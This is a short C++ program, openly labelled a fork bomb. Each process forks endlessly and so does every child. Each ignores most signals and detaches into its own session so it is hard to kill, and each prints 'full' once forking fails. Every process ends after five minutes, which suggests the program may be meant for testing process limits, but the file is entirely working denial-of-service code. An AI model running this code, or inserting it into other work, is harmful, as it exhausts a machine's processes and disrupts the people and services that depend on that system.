// fork_bomb: forks without end, and so does every child; each ignores what it can and leaves
// its session. Prints "full" and a newline once fork fails. Ends by itself after five minutes: one
// that ends while it is looked for makes room for others.
#include <errno.h>
#include <signal.h>
#include <unistd.h>

constexpr unsigned kLongestLife = 300;  // in seconds

int main() {
  bool told = false;
  for (int signal_number = 1; signal_number < 32; ++signal_number) signal(signal_number, SIG_IGN);
  signal(SIGALRM, SIG_DFL);
  alarm(kLongestLife);
  while (true) {
    pid_t pid = fork();
    if (pid == 0) {
      setsid();
      alarm(kLongestLife);  // a child has no alarm of its parent's
      told = true;
    } else if (pid < 0 && !told) {
      told = write(STDOUT_FILENO, "full\n", 5) == 5;
    }
    if (pid < 0) usleep(1000);
  }
}
